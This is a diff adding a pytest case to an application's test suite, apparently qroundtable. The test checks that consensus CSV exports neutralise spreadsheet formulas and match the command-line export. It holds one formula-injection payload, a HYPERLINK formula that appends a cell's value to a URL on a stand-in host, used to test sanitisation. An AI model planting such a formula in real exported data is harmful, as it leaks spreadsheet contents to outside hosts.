@@ -242,3 +242,19 @@ def test_the_status_bar_count_falls_on_undo_and_ignores_private_notes(window, de
     window.session.apply(lambda rt: rt.notes.set(1, "Private: never sent"))
     settle(window.session)
     assert window.unsent_label.text() == "0 changes not yet sent"
+
+
+def test_the_consensus_csv_never_carries_a_formula_and_matches_the_command_line(window, demo_path, tmp_path, settle):
+    from click.testing import CliRunner
+
+    from qroundtable.cli import cli
+
+    assert opened(window, demo_path)
+    window.session.apply(lambda rt: rt.principles.retitle(3, '=HYPERLINK("https://example.org/?"&A1,"P3")'))
+    settle(window.session)
+    out = tmp_path / "consensus.csv"
+    window.write_consensus_csv(out)
+    line = out.read_text().splitlines()[3]
+    assert line.startswith("3,\"'=HYPERLINK(")
+    cli_csv = CliRunner().invoke(cli, ["--db", str(demo_path), "consensus", "--format", "csv"]).stdout
+    assert out.read_text() == cli_csv  # one table, whichever way it is exported
